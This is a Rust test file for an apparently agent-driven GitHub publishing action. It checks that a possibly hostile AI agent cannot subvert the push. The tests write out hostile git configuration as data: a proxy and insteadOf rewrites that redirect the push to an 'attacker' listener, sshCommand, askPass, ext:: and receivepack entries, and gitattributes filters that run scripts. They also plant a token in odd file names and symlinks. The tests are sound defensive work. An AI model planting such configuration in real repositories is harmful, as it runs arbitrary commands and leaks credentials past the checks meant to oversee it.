//! Publishing as the attacker would have it: after `prepare` and before `publish`, the agent
//! writes whatever it likes into the work tree — its `.git/config`, includes, `.gitattributes`
//! drivers, odd file names, tags. Each test asserts that none of it ran, nothing reached a
//! listener of the attacker's, and the remote's new ref is exactly the commit we checked.
//! Real git; the server is a local bare repository (`{server}/owner/repo.git`).

use crate::support::git_repo;

use crate::support::publish_inputs;

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use git_repo::{Repos, git};
use publish_inputs::{TOKEN, issue, outcome};
use sisyphus_action::config::Config;
use sisyphus_action::context::from_payload;
use sisyphus_action::plan::{self, Plan};
use sisyphus_action::publish::{self, PublishInput, Published};
use sisyphus_action::sanitize::sanitize;

const BRANCH: &str = "sisyphus/issue-7-attack";

struct Run {
    repos: Repos,
    config: Config,
    plan: Plan,
    prepared: publish::Prepared,
}

impl Run {
    fn new() -> Self {
        let repos = Repos::new("main");
        // Serves blob-less fetches, as GitHub does: the guard's reads of base blobs are then
        // fetched on demand through the clean room.
        git(&repos.origin, &["config", "uploadpack.allowFilter", "true"]);
        let mut config = publish_inputs::config(&repos.server());
        let runner_temp = repos.root.path().join("runner_temp");
        std::fs::create_dir_all(&runner_temp).unwrap();
        config.github.runner_temp = runner_temp;
        let trigger = issue(7, "Attack");
        let plan = plan::plan(&trigger, &from_payload(&trigger), &config);
        assert_eq!(plan, Plan::NewBranch { branch: BRANCH.into(), base: "main".into() });
        let prepared = publish::prepare(&plan, &repos.work, &config).unwrap();
        Self { repos, config, plan, prepared }
    }

    fn work(&self) -> &Path {
        &self.repos.work
    }

    /// Appends `text` to the work tree's `.git/config`, as the agent's file tool would.
    fn plant_config(&self, text: &str) {
        let mut file = std::fs::OpenOptions::new().append(true).open(self.work().join(".git/config")).unwrap();
        file.write_all(text.as_bytes()).unwrap();
    }

    /// A script that creates `marker` when anything runs it, and the marker's path.
    fn trap(&self, name: &str) -> (PathBuf, PathBuf) {
        let marker = self.repos.root.path().join(format!("ran-{name}"));
        let script = self.repos.root.path().join(format!("trap-{name}.sh"));
        std::fs::write(&script, format!("#!/bin/sh\nenv > '{}'\nexit 1\n", marker.display())).unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        (script, marker)
    }

    fn publish(&self) -> anyhow::Result<Published> {
        let trigger = issue(7, "Attack");
        let thread = from_payload(&trigger);
        let outcome = outcome("Done.");
        let input = PublishInput {
            config: &self.config,
            trigger: &trigger,
            thread: &thread,
            request: &sanitize("attack"),
            outcome: &outcome,
            workdir: &self.repos.work,
            prepared: &self.prepared,
        };
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        rt.block_on(publish::publish(None, &self.plan, &input))
    }

    /// The published commit is what the remote's branch points at, main did not move, and
    /// no other ref appeared.
    fn assert_exactly_our_commit(&self, published: &Published, refs_before: &str) {
        let sha = published.commit_sha.clone().expect("pushed");
        assert_eq!(self.repos.remote_sha(BRANCH).as_deref(), Some(sha.as_str()));
        let after = self.repos.remote_refs();
        let new: Vec<&str> = after.lines().filter(|l| !refs_before.lines().any(|b| b == *l)).collect();
        assert_eq!(new, [format!("refs/heads/{BRANCH} {sha}")], "exactly one new ref");
        self.repos.assert_token_absent(TOKEN);
    }
}

/// A loopback listener that records every request line and header block sent to it.
fn listener() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = Arc::clone(&seen);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(&stream);
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 0) && line.trim_end() != "" {
                record.lock().unwrap().push(line.trim_end().to_owned());
                line.clear();
            }
            let _ = (&stream).write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (url, seen)
}

#[test]
fn a_proxy_and_a_redirected_origin_in_the_work_trees_config_see_nothing() {
    let run = Run::new();
    let (attacker, seen) = listener();
    let refs_before = run.repos.remote_refs();
    // Every route the issue found for sending our push elsewhere, through the attacker.
    git(run.work(), &["remote", "set-url", "origin", &format!("{attacker}/owner/repo.git")]);
    run.plant_config(&format!(
        "[http]\n\tproxy = {attacker}\n\tsslVerify = false\n[url \"{attacker}/\"]\n\tinsteadOf = {server}/\n\tpushInsteadOf = {server}/\n",
        server = run.config.github.server_url
    ));
    run.repos.write("src/lib.rs", "pub fn answer() -> u32 {\n    42\n}\n");
    let published = run.publish().unwrap();
    run.assert_exactly_our_commit(&published, &refs_before);
    // git waited for any answer the listener gave, which it records first.
    assert_eq!(seen.lock().unwrap().clone(), Vec::<String>::new(), "the attacker's listener was contacted");
}

#[test]
fn config_that_executes_never_runs() {
    let run = Run::new();
    let refs_before = run.repos.remote_refs();
    let traps: Vec<(PathBuf, PathBuf)> = ["ssh", "askpass", "receivepack", "ext", "gitproxy", "fsmonitor", "include"]
        .iter()
        .map(|n| run.trap(n))
        .collect();
    let script = |i: usize| traps[i].0.display().to_string();
    // An include of a file the agent wrote, itself naming a command.
    let included = run.work().join("tools/evil.config");
    git_repo::write(run.work(), "tools/evil.config", &format!("[core]\n\tfsmonitor = {}\n", script(6)));
    run.plant_config(&format!(
        "[core]\n\tsshCommand = {}\n\taskPass = {}\n\tgitProxy = {}\n\tfsmonitor = {}\n\
         [remote \"origin\"]\n\treceivepack = {}\n\tuploadpack = {}\n\
         [url \"ext::{} %S #\"]\n\tinsteadOf = {server}\n\tpushInsteadOf = {server}\n\
         [protocol]\n\tallow = always\n[include]\n\tpath = {}\n",
        script(0),
        script(1),
        script(4),
        script(5),
        script(2),
        script(2),
        script(3),
        included.display(),
        server = run.config.github.server_url,
    ));
    run.repos.write("src/lib.rs", "changed\n");
    let published = run.publish().unwrap();
    // Checked before the test's own git looks at the work tree (which reads that config).
    for (_, marker) in &traps {
        assert!(!marker.exists(), "{} ran", marker.display());
    }
    run.assert_exactly_our_commit(&published, &refs_before);
}

#[test]
fn gitattributes_drivers_never_run_and_the_guard_sees_the_real_bytes() {
    let run = Run::new();
    let refs_before = run.repos.remote_refs();
    let (clean, clean_ran) = run.trap("clean");
    let (textconv, textconv_ran) = run.trap("textconv");
    run.plant_config(&format!(
        "[filter \"evil\"]\n\tclean = {}\n\tsmudge = cat\n[diff \"evil\"]\n\ttextconv = {}\n",
        clean.display(),
        textconv.display()
    ));
    run.repos.write(".gitattributes", "* filter=evil diff=evil\n");
    let token = format!("ghp_{}", "Zz9x".repeat(9));
    run.repos.write("src/lib.rs", "changed\n");
    run.repos.write("src/leak.rs", &format!("const T: &str = \"{token}\";\n"));
    let published = run.publish().unwrap();
    assert!(!clean_ran.exists(), "the clean filter ran");
    assert!(!textconv_ran.exists(), "the textconv driver ran");
    run.assert_exactly_our_commit(&published, &refs_before);
    assert_eq!(run.repos.remote_file(BRANCH, "src/lib.rs").as_deref(), Some("changed\n"), "the file as it is");
    assert_eq!(run.repos.remote_file(BRANCH, "src/leak.rs"), None);
    assert!(published.withheld.iter().any(|(p, r)| p == "src/leak.rs" && r.contains("GitHub token")));
}

#[test]
fn pathspec_magic_names_are_checked_as_themselves() {
    let run = Run::new();
    let refs_before = run.repos.remote_refs();
    run.repos.write(":notes.txt", &format!("token={TOKEN}\n"));
    run.repos.write("notes.txt", "harmless\n");
    run.repos.write(":cfg/.env", &format!("TOKEN={TOKEN}\n"));
    run.repos.write("src/lib.rs", "changed\n");
    let published = run.publish().unwrap();
    run.assert_exactly_our_commit(&published, &refs_before);
    let withheld: Vec<&str> = published.withheld.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(withheld, [":cfg/.env", ":notes.txt"]);
    for path in &withheld {
        assert_eq!(run.repos.remote_file(BRANCH, path), None, "{path} was pushed");
    }
    // The reply's lists are the pushed tree, by construction.
    let pushed = git(&run.repos.origin, &["ls-tree", "-r", "--name-only", &format!("refs/heads/{BRANCH}")]);
    let mut pushed_changed: Vec<&str> = pushed.lines().filter(|p| !["README.md"].contains(p)).collect();
    pushed_changed.sort_unstable();
    assert_eq!(pushed_changed, ["notes.txt", "src/lib.rs"]);
    assert_eq!(published.files, ["notes.txt", "src/lib.rs"]);
}

#[test]
fn a_planted_tag_and_follow_tags_push_nothing_extra() {
    let run = Run::new();
    let refs_before = run.repos.remote_refs();
    run.plant_config("[push]\n\tfollowTags = true\n");
    git(run.work(), &["tag", "--annotate", "--message", "evil", "v-evil"]);
    run.repos.write("src/lib.rs", "changed\n");
    let published = run.publish().unwrap();
    run.assert_exactly_our_commit(&published, &refs_before);
    assert!(!run.repos.remote_refs().contains("refs/tags/"), "a tag was pushed");
}

/// Set for the child run of `a_planted_global_and_xdg_config_is_never_read`.
const GLOBAL_CHILD: &str = "CLEANROOM_GLOBAL_CHILD";

#[test]
fn a_planted_global_and_xdg_config_is_never_read() {
    // The agent shares our user, so it can write our HOME. The publish runs in a child of
    // this test binary whose HOME and XDG_CONFIG_HOME are the agent's files.
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("agent-home");
    let xdg = home.join(".config");
    let receivepack_ran = dir.path().join("ran-global-receivepack");
    let clean_ran = dir.path().join("ran-xdg-clean");
    let trap = |marker: &Path| {
        let script = marker.with_extension("sh");
        std::fs::write(&script, format!("#!/bin/sh\nenv > '{}'\nexit 1\n", marker.display())).unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        script
    };
    let receivepack = trap(&receivepack_ran);
    let clean = trap(&clean_ran);
    git_repo::write(&home, ".gitconfig", &format!("[remote \"origin\"]\n\treceivepack = {}\n", receivepack.display()));
    git_repo::write(&xdg, "git/config", &format!("[filter \"evil\"]\n\tclean = {}\n", clean.display()));
    let child = std::process::Command::new(std::env::current_exe().unwrap())
        .args(["--exact", "publish_cleanroom::publish_with_the_agents_home", "--nocapture", "--test-threads=1"])
        .env(GLOBAL_CHILD, "1")
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", &xdg)
        .output()
        .unwrap();
    let log = format!("{}{}", String::from_utf8_lossy(&child.stdout), String::from_utf8_lossy(&child.stderr));
    assert!(log.contains("1 passed"), "the child run did not pass:\n{log}");
    assert!(!receivepack_ran.exists(), "the global config's receivepack ran");
    assert!(!clean_ran.exists(), "the XDG config's clean filter ran");
}

/// The child half of the test above; does nothing in an ordinary run.
#[test]
fn publish_with_the_agents_home() {
    if std::env::var_os(GLOBAL_CHILD).is_none() {
        return;
    }
    let run = Run::new();
    let refs_before = run.repos.remote_refs();
    run.repos.write(".gitattributes", "* filter=evil\n");
    run.repos.write("src/lib.rs", "changed\n");
    let published = run.publish().unwrap();
    run.assert_exactly_our_commit(&published, &refs_before);
}

#[test]
fn a_blobless_base_still_shows_the_guard_what_a_change_adds() {
    let run = Run::new();
    // `README.md` is in the base; its old content is fetched on demand to tell added lines.
    run.repos.write("README.md", &format!("# repo\ntoken: {TOKEN}\n"));
    run.repos.write("src/lib.rs", "changed\n");
    let published = run.publish().unwrap();
    assert_eq!(published.files, ["src/lib.rs"]);
    assert!(published.withheld.iter().any(|(p, r)| p == "README.md" && r.contains("secrets")), "{published:?}");
    assert_eq!(run.repos.remote_file(BRANCH, "README.md").as_deref(), Some("# repo\n"));
}

#[test]
fn links_and_embedded_repositories_carry_no_content_from_outside() {
    let run = Run::new();
    let refs_before = run.repos.remote_refs();
    // A file outside the work tree that holds the token, linked from inside it.
    let outside = run.repos.root.path().join("outside.txt");
    std::fs::write(&outside, format!("{TOKEN}\n")).unwrap();
    std::os::unix::fs::symlink(&outside, run.work().join("link.txt")).unwrap();
    // A repository inside the work tree: a gitlink would point at the agent's objects.
    let nested = run.work().join("vendor/inner");
    std::fs::create_dir_all(&nested).unwrap();
    git(&nested, &["init", "--quiet"]);
    git_repo::write(&nested, "x.txt", "x\n");
    git(&nested, &["add", "--all"]);
    git(&nested, &["commit", "--quiet", "-m", "inner"]);
    run.repos.write("src/lib.rs", "changed\n");
    let published = run.publish().unwrap();
    run.assert_exactly_our_commit(&published, &refs_before);
    assert!(published.withheld.iter().any(|(p, r)| p == "vendor/inner" && r.contains("embedded")), "{published:?}");
    // The link is pushed as a link: its target's name, never the target's content.
    let pushed = run.repos.remote_file(BRANCH, "link.txt").unwrap();
    assert_eq!(pushed, outside.display().to_string());
    let objects = git(&run.repos.origin, &["cat-file", "--batch-all-objects", "--batch"]);
    assert!(!objects.contains(TOKEN), "the token reached the remote's objects");
}
